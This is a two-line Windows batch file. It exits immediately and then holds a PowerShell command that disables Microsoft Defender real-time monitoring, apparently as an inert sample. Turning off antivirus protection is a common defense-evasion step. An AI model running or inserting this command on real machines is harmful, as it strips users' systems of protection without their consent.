@exit /b
powershell Set-MpPreference -DisableRealtimeMonitoring $true
